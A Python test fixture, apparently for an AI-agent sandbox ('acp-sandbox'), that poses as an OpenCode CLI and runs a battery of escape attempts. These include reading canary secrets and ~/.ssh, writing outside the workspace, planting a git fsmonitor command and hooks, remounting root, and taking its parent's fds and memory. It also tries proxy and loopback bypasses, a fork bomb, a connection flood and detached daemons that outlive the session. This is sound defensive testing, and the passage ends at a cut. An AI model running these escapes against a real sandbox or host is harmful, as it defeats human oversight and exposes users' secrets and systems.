#!/usr/bin/python3
"""A hostile fake `opencode` CLI for the acp-sandbox attack tests (`tests/attacks.rs`).

Usage: hostile.py run --format json [any opencode flags]   (normally through the `hostile` wrapper next to this file)

Like fake_cli.py it takes OpenCode's argv and reads the prompt from stdin to EOF. Then it performs every attack the
prompt names (`ATTACKS:all`, `ATTACKS:secrets,network`, ...; `TAG:<word>` labels the processes it leaves behind),
writes one entry per attack to <cwd>/.attack/report.json:

    {"name": "...", "succeeded": true|false, "detail": "...", ...extra fields}

and prints a minimal OpenCode `--format json` answer (step_start, a text part with the report summary, step_finish
with reason stop), so the turn ends with `end_turn`. `succeeded` means the attack worked, i.e. the sandbox failed;
entries marked "(non-attack)" below are positive checks where `succeeded` means the normal thing worked.

Everything it needs from the test comes from <cwd>/.attack/targets.json (the bridge clears the environment). Nothing
is written unless <cwd>/.attack exists, so a run in a directory the test did not prepare leaves no trace there.
It never hangs: sockets time out after 2 s, every subprocess has a timeout, and even the `hang` and `drip` modes
end on their own after two minutes. Standard library only (Python 3.8+; runs on the host's /usr/bin/python3).

Attacks (entries):
  secrets        secrets: reads the canary files of the user's home (targets.canaries)
  deny_read      deny_read: reads canaries in --deny-read dirs (targets.deny_read)
  plain_home     plain_home_file: reads a plain file of the home (targets.plain); readable unless --profile strict
  data_dir       data_db, data_logs, data_other_session: the bridge's database, logs, another session's state
  outside_writes write:<label>: appends to files outside the workspace (targets.outside_writes)
  git_commit     git_commit_works (non-attack): `git add` + `git commit` of a normal file in the workspace
  protected      protect:<path>: writes protected workspace paths by any means (write, rename over, unlink and
                 recreate, move the parent dir away and copy it back)
  git_status     git_status (non-attack): `git status --porcelain` of the workspace from inside; its output in
                 the entry's `output` (the test expects none: nothing of the sandbox shows in the user's repository)
  create_protected create:<path>: creates protected paths that do not exist (targets.create_protected) with a
                 marker; succeeded = it was created (the test checks that the bridge moved it out afterwards)
  remount        remount_root, mount_tmpfs, write_etc_after_remount: makes / writable and writes targets.etc_file
  capabilities   capabilities: the effective capability set is not empty
  unix_sockets   unix_socket:<label>, abstract_socket:<label>: connects to the host's unix sockets
  loopback       loopback_direct, loopback_via_proxy: reaches a TCP port on the host's 127.0.0.1
  proxy_domains  proxy_denied_domain, proxy_denied_http, proxy_allowed_domain (non-attack: the proxy's answer for
                 an allowed host), direct_external: a direct TCP connect to an outside IP
  seccomp        seccomp_status, unshare_userns, unshare_cmd, ptrace_traceme, keyctl; and against the sandbox's
                 first process (our parent, sandbox-init, which holds a server's door): init_pidfd_getfd (takes an
                 fd of it), init_environ, init_mem (reads its /proc files), process_madvise (not EPERM)
  fork_bomb      fork_bomb: starts targets.fork_bomb_count (500) `sleep 30` children; succeeded if more than
                 targets.max_processes (64) run at once
  memory         memory_hog: a child allocates and touches targets.memory_bytes (1 GiB)
  plant          plant_config_symlink, plant_attachments_symlink, plant_data_symlink: replaces parts of the
                 session's state dir by symlinks into the user's home (succeeded = planted; the test checks what
                 the bridge then does)
  env            env_leak, env_other_processes: secret values (targets.secrets) in our environment or readable in
                 another process's; env_pass, env_provider (non-attack): variables that must reach us
  daemon         daemon: a double-forked, setsid, SIGHUP/SIGTERM-ignoring process with a clean environment in /,
                 argv marker `acp-attack-daemon-<nonce>-<tag>` (the test looks for it in /proc)
  pipe_holder    pipe_holder: a detached process that keeps our stdout and stderr open for 60 s, argv marker
                 `acp-attack-holder-<nonce>-<tag>`
  state_probe    state_writes: writes a file into HOME and each XDG dir and reports where it landed
  host_address   host_address:<label>: CONNECTs through the proxy to the host's own addresses and names that
                 resolve to them (targets.host_targets); the proxy's answer body in `body`
  proxy_flood    proxy_flood: targets.flood_count idle connections to the proxy's socket, kept for the run;
                 succeeded = more than targets.proxy_cap held open unanswered
  model_endpoint model_endpoint (non-attack): GET targets.endpoint_url straight, on the sandbox's loopback
  own_unix_socket own_unix_socket (non-attack): a unix socket made and connected inside the workspace
  socketpair     socketpair (non-attack): an AF_UNIX socketpair works
  noop           nothing (the run is still recorded in .attack/runs.jsonl)
Stream modes (after the report): hang (step_start, then silence), drip (a text part every 0.5 s).
`all` is every attack above except noop, proxy_flood and model_endpoint, in an order that keeps them independent (remount, then fork_bomb last).
"""

import ctypes
import datetime
import errno
import json
import os
import platform
import random
import re
import select
import shutil
import signal
import socket
import string
import subprocess
import sys
import time
import urllib.parse
from pathlib import Path

SOCKET_TIMEOUT = 2.0
STREAM_MODES = ("hang", "drip")
MODE_LIFETIME = 120  # seconds: even a hanging or dripping run ends on its own

CWD = Path(os.getcwd())
ATTACK_DIR = CWD / ".attack"


def entry(name, succeeded, detail, **extra):
    return {"name": name, "succeeded": bool(succeeded), "detail": detail, **extra}


def describe_error(error):
    if isinstance(error, OSError) and error.errno is not None:
        return f"{errno.errorcode.get(error.errno, error.errno)}: {error.strerror}"
    return f"{type(error).__name__}: {error}"


def errno_name(error):
    if isinstance(error, OSError) and error.errno is not None:
        return errno.errorcode.get(error.errno, str(error.errno))
    if isinstance(error, socket.timeout):
        return "TIMEOUT"
    return type(error).__name__


def read_text(path, limit=1 << 16):
    with open(path, "rb") as file:
        return file.read(limit).decode("utf-8", errors="replace")


def try_read(path):
    """(True, text) or (False, why)."""
    try:
        return True, read_text(path)
    except (OSError, ValueError) as error:
        return False, describe_error(error)


def run(argv, timeout=10, **kwargs):
    """(returncode or None, combined output tail)."""
    try:
        done = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              timeout=timeout, **kwargs)
        return done.returncode, done.stdout.decode("utf-8", errors="replace").strip()[-600:]
    except subprocess.TimeoutExpired:
        return None, f"timed out after {timeout} s"
    except OSError as error:
        return None, describe_error(error)


def status_fields():
    fields = {}
    ok, text = try_read("/proc/self/status")
    if ok:
        for line in text.splitlines():
            key, _, value = line.partition(":")
            fields[key.strip()] = value.strip()
    return fields


def in_child(function, timeout=5.0):
    """Runs `function` (returning (ok, detail)) in a forked child, so whatever it changes stays there."""
    read_end, write_end = os.pipe()
    sys.stdout.flush()
    sys.stderr.flush()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        try:
            result = function()
        except BaseException as error:  # noqa: B902 - the child must always report
            result = (False, f"exception in the child: {describe_error(error)}")
        os.write(write_end, json.dumps(result).encode("utf-8")[:8000])
        os._exit(0)
    os.close(write_end)
    data, deadline = b"", time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([read_end], [], [], max(0.0, deadline - time.monotonic()))
        if not ready:
            break
        chunk = os.read(read_end, 8192)
        if not chunk:
            break
        data += chunk
    os.close(read_end)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    os.waitpid(pid, 0)
    if not data:
        return False, "the child died or timed out without reporting"
    ok, detail = json.loads(data)
    return ok, detail


LIBC = ctypes.CDLL(None, use_errno=True)


def libc_errno():
    code = ctypes.get_errno()
    return f"{errno.errorcode.get(code, code)}"


# ---- reading --------------------------------------------------------------------------------------------------

def attack_secrets(t):
    read, blocked = [], []
    home = Path(t["home"])
    for rel, content in sorted(t.get("canaries", {}).items()):
        ok, text = try_read(home / rel)
        if ok and content in text:
            read.append(rel)
        else:
            blocked.append(f"{rel} ({text if not ok else 'content differs'})")
    try:
        listing = sorted(os.listdir(home / ".ssh"))
    except OSError as error:
        listing = describe_error(error)
    detail = f"read {len(read)} of {len(read) + len(blocked)}: {read}; blocked: {blocked}; ~/.ssh lists {listing}"
    return [entry("secrets", read, detail, read=read)]


def attack_deny_read(t):
    read, blocked = [], []
    for canary in t.get("deny_read", []):
        ok, text = try_read(canary["path"])
        (read if ok and canary["content"] in text else blocked).append(
            canary["path"] if ok and canary["content"] in text else f"{canary['path']} ({text})")
    return [entry("deny_read", read, f"read: {read}; blocked: {blocked}", read=read)]


def attack_plain_home(t):
    plain = t["plain"]
    ok, text = try_read(plain["path"])
    succeeded = ok and plain["content"] in text
    return [entry("plain_home_file", succeeded, f"{plain['path']}: {'read' if succeeded else text}")]


def attack_data_dir(t):
    data = Path(t["data_dir"])
    entries = []
    try:
        with open(data / "acp-sandbox.sqlite3", "rb") as file:
            head = file.read(16)
        entries.append(entry("data_db", head.startswith(b"SQLite format 3"), f"read the database header {head!r}"))
    except OSError as error:
        entries.append(entry("data_db", False, f"{data / 'acp-sandbox.sqlite3'}: {describe_error(error)}"))

    candidates = {data / "acp-sandbox.log"}
    try:
        candidates.update(data / name for name in os.listdir(data) if name.startswith("acp-sandbox.log"))
    except OSError:
        pass
    today = datetime.datetime.utcnow().date()
    for days in (0, 1):
        candidates.add(data / f"acp-sandbox.log.{today - datetime.timedelta(days=days)}")
    read, errors = [], []
    for path in sorted(candidates):
        ok, text = try_read(path)
        if ok:
            read.append(f"{path.name} ({len(text)} chars)")
        else:
            errors.append(f"{path.name}: {text}")
    entries.append(entry("data_logs", read, f"read: {read}; not read: {errors}"))

    other = t.get("other_session_dir")
    found = []
    if other:
        try:
            found.append(f"listed {other}: {sorted(os.listdir(other))}")
        except OSError as error:
            found_error = describe_error(error)
        else:
            found_error = ""
        ok, text = try_read(t["other_canary"]["path"])
        if ok and t["other_canary"]["content"] in text:
            found.append(f"read {t['other_canary']['path']}")
        detail = "; ".join(found) or f"cannot list ({found_error}) nor read the canary ({text})"
        try:
            detail += f"; sessions dir lists {sorted(os.listdir(data / 'sessions'))}"
        except OSError as error:
            detail += f"; sessions dir: {describe_error(error)}"
        entries.append(entry("data_other_session", found, detail))
    return entries


# ---- writing --------------------------------------------------------------------------------------------------

def append_line(path, line):
    with open(path, "a") as file:
        file.write(line + "\n")


def attack_outside_writes(t):
    entries = []
    for target in t.get("outside_writes", []):
        try:
            append_line(target["path"], f"acp-attack-{t['nonce']}")
            entries.append(entry(f"write:{target['label']}", True, f"appended to {target['path']}"))
        except OSError as error:
            entries.append(entry(f"write:{target['label']}", False, f"{target['path']}: {describe_error(error)}"))
    return entries


def git(*args, timeout=20):
    return run(["git", "-c", "safe.directory=*", "-c", "user.name=Hostile Agent", "-c", "user.email=h@example.invalid",
                "-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "-c", "commit.gpgsign=false",
                *args], timeout=timeout)


def attack_git_commit(t):
    name = f"normal-{t['nonce']}.txt"
    message = f"a normal commit {t['nonce']}"
    steps = []
    try:
        (CWD / name).write_text("an ordinary file an agent would commit\n")
    except OSError as error:
        return [entry("git_commit_works", False, f"(non-attack) cannot write {name}: {describe_error(error)}")]
    for argv in (["add", name], ["commit", "-q", "-m", message]):
        code, output = git(*argv)
        steps.append(f"git {argv[0]}: exit {code} {output}")
        if code != 0:
            return [entry("git_commit_works", False, "(non-attack) " + "; ".join(steps))]
    code, subject = git("log", "-1", "--format=%s")
    ok = code == 0 and subject.strip() == message
    return [entry("git_commit_works", ok, f"(non-attack) {'; '.join(steps)}; HEAD is {subject!r}")]


def landed(path, marker):
    ok, text = try_read(path)
    return ok and marker in text


def protected_content(rel, marker, old):
    if rel.endswith(".git/config") or rel == ".git/config":
        return old + f'\n[core]\n\tfsmonitor = "echo {marker}"\n'
    if "/hooks/" in rel:
        return f"#!/bin/sh\n# {marker}\necho {marker}\n"
    return old + f"{marker}\n"


def write_file(path, content):
    with open(path, "w") as file:
        file.write(content)
    if "/hooks/" in str(path):
        os.chmod(path, 0o755)


def attack_protected_path(rel, marker, counter):
    path = CWD / rel
    tried = []
    old = try_read(path)[1] if path.is_file() else ""
    content = protected_content(rel, marker, old)

    def attempt(how, action):
        try:
            action()
        except OSError as error:
            tried.append(f"{how}: {describe_error(error)}")
            return False
        if landed(path, marker):
            tried.append(f"{how}: landed")
            return True
        tried.append(f"{how}: no error, but the content is not there")
        return False

    def direct():
        path.parent.mkdir(parents=True, exist_ok=True)
        write_file(path, content)

    def rename_over():
        tmp = path.with_name(f"{path.name}.attack-{counter}")
        try:
            write_file(tmp, content)
            os.replace(tmp, path)
        finally:
            if tmp.exists():
                tmp.unlink()

    def unlink_and_recreate():
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        write_file(path, content)

    def move_parent_away():
        # Moves the parent (say .git) aside, copies it back as a plain directory (whatever was mounted into the
        # old one stays behind with it) and writes the copy.
        parent = path.parent
        moved = parent.with_name(f"{parent.name}.attack-moved-{counter}")
        os.rename(parent, moved)
        shutil.copytree(moved, parent, symlinks=True)
        write_file(path, content)

    strategies = [("direct write", direct), ("rename over", rename_over), ("unlink and recreate", unlink_and_recreate)]
    if path.parent != CWD:
        strategies.append(("move the parent away", move_parent_away))
    for how, action in strategies:
        if attempt(how, action):
            return entry(f"protect:{rel}", True, "; ".join(tried), how=how)
    return entry(f"protect:{rel}", False, "; ".join(tried))


def attack_protected(t):
    marker = f"acp-attack-{t['nonce']}"
    return [attack_protected_path(rel, marker, i) for i, rel in enumerate(t.get("protected", []))]


def attack_git_status(_t):
    code, output = git("status", "--porcelain")
    return [entry("git_status", code == 0, f"(non-attack) git status --porcelain: exit {code}", output=output)]


def attack_create_protected(t):
    entries = []
    for rel in t.get("create_protected", []):
        path = CWD / rel
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            write_file(path, f"#!/bin/sh\n# acp-attack-{t['nonce']}\n")
            entries.append(entry(f"create:{rel}", landed(path, f"acp-attack-{t['nonce']}"), f"created {path}"))
        except OSError as error:
            entries.append(entry(f"create:{rel}", False, f"{path}: {describe_error(error)}"))
    return entries


def attack_remount(t):
    entries = []
    code, output = run(["mount", "-o", "remount,rw,bind", "/"])
    entries.append(entry("remount_root", code == 0, f"mount -o remount,rw,bind /: exit {code} {output}"))
    code, output = run(["mount", "-t", "tmpfs", "none", "/mnt"])
    entries.append(entry("mount_tmpfs", code == 0, f"mount -t tmpfs none /mnt: exit {code} {output}"))
    target = t["etc_file"]
    try:
        append_line(target, f"acp-attack-{t['nonce']}")
        entries.append(entry("write_etc_after_remount", True, f"wrote {target}"))
    except OSError as error:
        entries.append(entry("write_etc_after_remount", False, f"{target}: {describe_error(error)}"))
    return entries


def attack_capabilities(_t):
    fields = status_fields()
    caps = {key: fields.get(key) for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    effective = int(caps["CapEff"] or "0", 16)
    detail = ", ".join(f"{key} {value}" for key, value in caps.items()) + f"; uid {os.getuid()}"
    return [entry("capabilities", effective != 0, detail, cap_eff=caps["CapEff"])]


# ---- network --------------------------------------------------------------------------------------------------

def connect(family, address):
    """(connected, errno name or 'connected', seconds)."""
    started = time.monotonic()
    try:
        sock = socket.socket(family, socket.SOCK_STREAM)
    except OSError as error:  # refused at socket(): a seccomp rule
        return False, errno_name(error), time.monotonic() - started
    sock.settimeout(SOCKET_TIMEOUT)
    try:
        sock.connect(address)
        try:
            sock.sendall(b"hostile\n")
        except OSError:
            pass
        return True, "connected", time.monotonic() - started
    except (OSError, socket.timeout) as error:
        return False, errno_name(error), time.monotonic() - started
    finally:
        sock.close()


def attack_unix_sockets(t):
    entries = []
    for target in t.get("unix_sockets", []):
        ok, how, _ = connect(socket.AF_UNIX, target["path"])
        entries.append(entry(f"unix_socket:{target['label']}", ok, f"{target['path']}: {how}"))
    for target in t.get("abstract_sockets", []):
        ok, how, _ = connect(socket.AF_UNIX, "\0" + target["name"])
        entries.append(entry(f"abstract_socket:{target['label']}", ok, f"@{target['name']}: {how}"))
    return entries


PROXY_VARIABLES = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy")


def proxy_from_env():
    """(variable, host, port) of the first HTTP proxy in the environment, or None."""
    for name in PROXY_VARIABLES:
        value = os.environ.get(name)
        if not value:
            continue
        parts = urllib.parse.urlsplit(value if "://" in value else "http://" + value)
        if parts.scheme not in ("http", "https") or not parts.hostname:
            continue
        return name, parts.hostname, parts.port or 80
    return None


def proxy_ask(request):
    """Sends one raw request to the proxy; (status or None, what happened, variable)."""
    proxy = proxy_from_env()
    if proxy is None:
        return None, "no HTTP proxy in the environment", None
    name, host, port = proxy
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(SOCKET_TIMEOUT)
    try:
        sock.connect((host, port))
        sock.sendall(request.encode("ascii"))
        data = b""
        while b"\r\n" not in data and len(data) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    except (OSError, socket.timeout) as error:
        return None, f"proxy {name}={host}:{port}: {errno_name(error)}", name
    finally:
        sock.close()
    line = data.split(b"\r\n", 1)[0].decode("latin-1")
    match = re.match(r"HTTP/\d(?:\.\d)?\s+(\d{3})", line)
    if not match:
        return None, f"proxy {name}={host}:{port} answered {line!r}" if data else \
            f"proxy {name}={host}:{port} closed the connection without an answer", name
    return int(match.group(1)), f"proxy {name}={host}:{port} answered {line!r}", name


def connect_request(authority):
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nUser-Agent: hostile\r\n\r\n"


def attack_loopback(t):
    port = t["loopback_port"]
    ok, how, seconds = connect(socket.AF_INET, ("127.0.0.1", port))
    entries = [entry("loopback_direct", ok, f"127.0.0.1:{port}: {how} after {seconds:.1f} s", errno=how)]
    results, statuses = [], []
    for spelling in ("127.0.0.1", "localhost", "127.1", "0.0.0.0", "[::ffff:127.0.0.1]", "2130706433"):
        status, what, _ = proxy_ask(connect_request(f"{spelling}:{port}"))
        statuses.append(status)
        results.append(f"CONNECT {spelling}:{port}: {what}")
        if proxy_from_env() is None:
            break
    entries.append(entry("loopback_via_proxy", 200 in statuses, "; ".join(results), statuses=statuses,
                         proxy=(proxy_from_env() or [None])[0]))
    return entries


def attack_proxy_domains(t):
    denied, allowed = t.get("denied_host", "denied.example"), t.get("allowed_host", "allowed.example")
    proxy = (proxy_from_env() or [None])[0]
    entries = []
    status, what, _ = proxy_ask(connect_request(f"{denied}:443"))
    entries.append(entry("proxy_denied_domain", status == 200, what, status=status, proxy=proxy))
    status, what, _ = proxy_ask(f"GET http://{denied}/ HTTP/1.1\r\nHost: {denied}\r\nUser-Agent: hostile\r\n\r\n")
    entries.append(entry("proxy_denied_http", status is not None and 200 <= status < 400, what, status=status,
                         proxy=proxy))
    status, what, _ = proxy_ask(connect_request(f"{allowed}:443"))
    entries.append(entry("proxy_allowed_domain", status == 200, f"(non-attack) {what}", status=status, proxy=proxy))
    ip = t.get("external_ip", "1.1.1.1")
    ok, how, seconds = connect(socket.AF_INET, (ip, 443))
    entries.append(entry("direct_external", ok, f"{ip}:443: {how} after {seconds:.1f} s", errno=how))
    return entries


# ---- issue 16: the host's own addresses, a connection flood, a low-port endpoint, unix sockets ---------------

def proxy_answer(request):
    """Sends one raw request to the proxy and reads its answer to the end; (status or None, answer text)."""
    proxy = proxy_from_env()
    if proxy is None:
        return None, "no HTTP proxy in the environment"
    _, host, port = proxy
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(SOCKET_TIMEOUT)
    data = b""
    try:
        sock.connect((host, port))
        sock.sendall(request.encode("ascii"))
        while len(data) < 65536:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
            if data.startswith(b"HTTP/1.1 200 "):
                break  # a tunnel: the connection stays open
    except (OSError, socket.timeout) as error:
        return None, f"{errno_name(error)} after {data!r}"
    finally:
        sock.close()
    match = re.match(rb"HTTP/\d(?:\.\d)?\s+(\d{3})", data)
    return (int(match.group(1)) if match else None), data.decode("latin-1")


def attack_host_address(t):
    """host_address:<label>: CONNECT through the proxy to the host's own interface addresses, or to names that
    resolve to them (targets.host_targets: [{label, authority}]); the answer's body in `body`."""
    entries = []
    for target in t.get("host_targets", []):
        status, answer = proxy_answer(connect_request(target["authority"]))
        body = answer.split("\r\n\r\n", 1)[1] if "\r\n\r\n" in answer else ""
        entries.append(entry(f"host_address:{target['label']}", status == 200,
                             f"CONNECT {target['authority']}: {answer[:300]!r}", status=status, body=body))
    return entries


HELD = []  # connections a flood keeps open for the rest of the run (a `hang` run keeps them until it is killed)


def attack_proxy_flood(t):
    """proxy_flood: opens targets.flood_count idle connections straight to the proxy's unix socket
    (targets.proxy_socket), or to the proxy port of the environment where AF_UNIX sockets are refused, and keeps them; succeeded = more than targets.proxy_cap stayed open unanswered.
    `answered` counts those the proxy answered at once (their first line in `answers`), `silent` the others."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    wanted = t.get("flood_count", 2000)
    count = min(wanted, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 40)
    opened, failure = [], None
    proxy = proxy_from_env()
    # Straight to the proxy's socket where AF_UNIX sockets may be made, else through the sandbox's proxy port
    # (sandbox-init opens one connection to the proxy for each).
    family, address = (socket.AF_INET, (proxy[1], proxy[2])) if proxy else (socket.AF_UNIX, t["proxy_socket"])
    try:
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()
        family, address = socket.AF_UNIX, t["proxy_socket"]
    except OSError:
        pass
    for _ in range(count):
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(SOCKET_TIMEOUT)
        try:
            sock.connect(address)
        except OSError as error:
            sock.close()
            failure = describe_error(error)
            break
        opened.append(sock)
    # Wait (a bound, not a measure) until the proxy has answered all it will answer at once.
    answers, silent = {}, list(opened)
    expected = max(0, len(opened) - t.get("proxy_cap", 256))
    deadline = time.monotonic() + 20
    while silent and time.monotonic() < deadline and sum(answers.values()) < expected:
        ready, _, _ = select.select(silent[:1000], [], [], 0.5)
        for sock in ready:
            try:
                data = sock.recv(4096)
            except OSError as error:
                data = describe_error(error).encode()
            line = data.split(b"\r\n", 1)[0].decode("latin-1") or "(closed)"
            answers[line] = answers.get(line, 0) + 1
            silent.remove(sock)
            sock.close()
    HELD.extend(silent)
    answered = sum(answers.values())
    detail = (f"opened {len(opened)} of {wanted} to {address} (fd limit {resource.getrlimit(resource.RLIMIT_NOFILE)}), "
              f"{answered} answered at once {answers}, {len(silent)} held open")
    if failure:
        detail += f"; the next connect failed: {failure}"
    return [entry("proxy_flood", len(silent) > t.get("proxy_cap", 256), detail, opened=len(opened),
                  answered=answered, answers=answers, silent=len(silent), connect_failure=failure)]


def attack_model_endpoint(t):
    """model_endpoint (non-attack): GET targets.endpoint_url straight (no proxy: the sandbox serves the endpoint's
    port on its own loopback); the body in `body`."""
    parts = urllib.parse.urlsplit(t["endpoint_url"])
    ok, body = False, ""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(SOCKET_TIMEOUT)
    try:
        sock.connect((parts.hostname, parts.port or 80))
        sock.sendall(f"GET {parts.path or '/'} HTTP/1.1\r\nHost: {parts.netloc}\r\nConnection: close\r\n\r\n"
                     .encode())
        data = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
        body = data.decode("latin-1")
        ok = body.startswith("HTTP/1.1 200 ")
    except (OSError, socket.timeout) as error:
        body = describe_error(error)
    finally:
        sock.close()
    return [entry("model_endpoint", ok, f"(non-attack) GET {t['endpoint_url']}: {body[-300:]!r}", body=body)]


def attack_own_unix_socket(_t):
    """own_unix_socket (non-attack): a unix socket made in the workspace, connected to from here."""
    path = ATTACK_DIR / f"own-{os.getpid()}.sock"
    try:
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as error:
        return [entry("own_unix_socket", False, f"(non-attack) socket(AF_UNIX): {describe_error(error)}",
                      errno=errno_name(error))]
    try:
        server.bind(str(path))
        server.listen(1)
        ok, how, _ = connect(socket.AF_UNIX, str(path))
        return [entry("own_unix_socket", ok, f"(non-attack) {path}: {how}", errno=how)]
    except OSError as error:
        return [entry("own_unix_socket", False, f"(non-attack) {path}: {describe_error(error)}",
                      errno=errno_name(error))]
    finally:
        server.close()
        try:
            path.unlink()
        except OSError:
            pass


def attack_socketpair(_t):
    """socketpair (non-attack): an AF_UNIX socketpair carries a byte (runtimes use it for their children)."""
    try:
        left, right = socket.socketpair()
        left.sendall(b"x")
        ok = right.recv(1) == b"x"
        left.close()
        right.close()
        return [entry("socketpair", ok, "(non-attack) socketpair(AF_UNIX) carried a byte")]
    except OSError as error:
        return [entry("socketpair", False, f"(non-attack) socketpair: {describe_error(error)}")]


# ---- kernel surface -------------------------------------------------------------------------------------------

KEYCTL_SYSCALL = {"x86_64": 250, "aarch64": 219, "i686": 288, "i386": 288, "armv7l": 311, "riscv64": 219}


def attack_seccomp(_t):
    fields = status_fields()
    seccomp, nnp = fields.get("Seccomp"), fields.get("NoNewPrivs")
    entries = [entry("seccomp_status", seccomp != "2" or nnp != "1", f"Seccomp: {seccomp}, NoNewPrivs: {nnp}",
                     seccomp=seccomp, no_new_privs=nnp)]

    def unshare_user():
        if hasattr(os, "unshare"):  # Python 3.12+
            try:
                os.unshare(os.CLONE_NEWUSER)
                return True, "os.unshare(CLONE_NEWUSER) worked"
            except OSError as error:
                return False, f"os.unshare(CLONE_NEWUSER) failed: {describe_error(error)}"
        result = LIBC.unshare(0x10000000)  # CLONE_NEWUSER
        return result == 0, "unshare(CLONE_NEWUSER) " + ("worked" if result == 0 else f"failed: {libc_errno()}")

    ok, detail = in_child(unshare_user)
    entries.append(entry("unshare_userns", ok, detail))
    if shutil.which("unshare"):
        code, output = run(["unshare", "-U", "true"])
        entries.append(entry("unshare_cmd", code == 0, f"unshare -U true: exit {code} {output}"))
    else:
        entries.append(entry("unshare_cmd", False, "no unshare executable"))

    def traceme():
        LIBC.ptrace.restype = ctypes.c_long
        LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        result = LIBC.ptrace(0, 0, None, None)  # PTRACE_TRACEME
        return result == 0, "ptrace(PTRACE_TRACEME) " + ("worked" if result == 0 else f"failed: {libc_errno()}")

    ok, detail = in_child(traceme)
    entries.append(entry("ptrace_traceme", ok, detail))

    number = KEYCTL_SYSCALL.get(platform.machine())

    def keyctl():
        LIBC.syscall.restype = ctypes.c_long
        # KEYCTL_GET_KEYRING_ID of KEY_SPEC_SESSION_KEYRING, creating it.
        result = LIBC.syscall(ctypes.c_long(number), ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(1))
        return result >= 0, "keyctl(KEYCTL_GET_KEYRING_ID) " + (
            f"returned keyring {result}" if result >= 0 else f"failed: {libc_errno()}")

    if number is None:
        entries.append(entry("keyctl", False, f"no keyctl syscall number for {platform.machine()}", error="arch"))
    else:
        ok, detail = in_child(keyctl)
        entries.append(entry("keyctl", ok, detail))
    entries.extend(attack_init(os.getppid()))
    return entries


PIDFD_SYSCALLS = {"x86_64": (434, 438, 440), "aarch64": (434, 438, 440), "riscv64": (434, 438, 440)}


def attack_init(init):
    """Our parent, sandbox-init: a pidfd of it and any fd it holds, its environment and its memory."""
    entries = []

    def syscall(*args):
        LIBC.syscall.restype = ctypes.c_long
        ctypes.set_errno(0)
        result = LIBC.syscall(*[ctypes.c_long(a) for a in args])
        return result, ctypes.get_errno()

    numbers = PIDFD_SYSCALLS.get(platform.machine())
    if numbers is None:
        for name in ("init_pidfd_getfd", "process_madvise"):
            entries.append(entry(name, False, f"no pidfd syscall numbers for {platform.machine()}", error="arch"))
    else:
        pidfd_open, pidfd_getfd, process_madvise = numbers
        pidfd, open_errno = syscall(pidfd_open, init, 0)
        # Without pidfd_open, a /proc/<pid> directory fd is the other way to name the process.
        handle = pidfd if pidfd >= 0 else os.open(f"/proc/{init}", os.O_RDONLY | os.O_DIRECTORY)
        taken, errnos = [], set()
        for fd in range(64):
            result, error = syscall(pidfd_getfd, handle, fd, 0)
            if result >= 0:
                taken.append(fd)
            else:
                errnos.add(errno.errorcode.get(error, error))
        entries.append(entry("init_pidfd_getfd", bool(taken),
                             f"pidfd_open({init}): {errno.errorcode.get(open_errno, open_errno) if pidfd < 0 else 'ok'}; "
                             f"pidfd_getfd took fds {taken}, failed with {sorted(errnos)}", taken=taken))
        result, error = syscall(process_madvise, -1, 0, 0, 0, 0)
        entries.append(entry("process_madvise", error != errno.EPERM,
                             f"process_madvise(-1): {result} {errno.errorcode.get(error, error)}"))
    # Opening is the permission check (reading /proc/<pid>/mem at offset 0 fails anyway: nothing is mapped there).
    for name, path in (("init_environ", f"/proc/{init}/environ"), ("init_mem", f"/proc/{init}/mem")):
        try:
            open(path, "rb").close()
            entries.append(entry(name, True, f"opened {path}"))
        except OSError as error:
            entries.append(entry(name, False, f"{path}: {describe_error(error)}"))
    return entries


def attack_fork_bomb(t):
    count, limit = t.get("fork_bomb_count", 500), t.get("max_processes", 64)
    children, failure = [], None
    deadline = time.monotonic() + 15
    while len(children) < count and time.monotonic() < deadline:
        try:
            children.append(subprocess.Popen(["sleep", "30"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL))
        except OSError as error:
            failure = describe_error(error)
            break
    time.sleep(0.3)
    running = sum(1 for child in children if child.poll() is None)
    detail = f"started {len(children)} of {count} `sleep 30`, {running} running at once; limit {limit}"
    if failure:
        detail += f"; the next start failed: {failure}"
    # They are left running: the bridge must end them with the turn.
    return [entry("fork_bomb", running > limit, detail, running=running)]


def attack_memory(t):
    size = t.get("memory_bytes", 1 << 30)
    code = ("import sys\n"
            f"b = bytearray({size})\n"
            "for i in range(0, len(b), 4096):\n"
            "    b[i] = 1\n"
            "print('touched', len(b))\n")
    returncode, output = run([sys.executable, "-c", code], timeout=60)
    ok = returncode == 0 and "touched" in output
    how = f"exit {returncode}" if returncode is None or returncode >= 0 else f"killed by signal {-returncode}"
    return [entry("memory_hog", ok, f"allocating and touching {size} bytes: {how} {output[-300:]}")]


# ---- the session's state dir ----------------------------------------------------------------------------------

